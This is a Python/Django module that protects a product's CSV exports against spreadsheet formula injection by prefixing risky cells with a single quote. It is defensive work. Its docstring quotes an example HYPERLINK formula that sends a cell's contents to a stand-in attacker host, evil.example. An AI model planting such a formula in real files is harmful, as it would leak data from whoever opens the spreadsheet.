"""Every CSV the product writes goes through here, so no cell is run as a spreadsheet formula.

A cell that starts with = + - @ (or a tab or carriage return, which some spreadsheets skip
before looking) is read by Excel, LibreOffice and Google Sheets as a formula: an imported
address such as `=HYPERLINK("https://evil.example/?"&A1,"open")` would run when staff open the
report (OWASP "CSV injection"). Such a cell is prefixed with a single quote, which spreadsheets
show as text and hide.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

from django.http import StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """`value`, with a leading ' when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer whose every cell goes through csv_cell."""

    def __init__(self, file: TextIO, **kwargs):
        self._writer = csv.writer(file, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(file: TextIO, **kwargs) -> SafeWriter:
    """The one way the product opens a CSV for writing."""
    return SafeWriter(file, **kwargs)


def csv_download(pieces: Iterable[str], filename: str) -> StreamingHttpResponse:
    """A streamed CSV download of already-neutralised `pieces` (every export's response)."""
    response = StreamingHttpResponse(pieces, content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
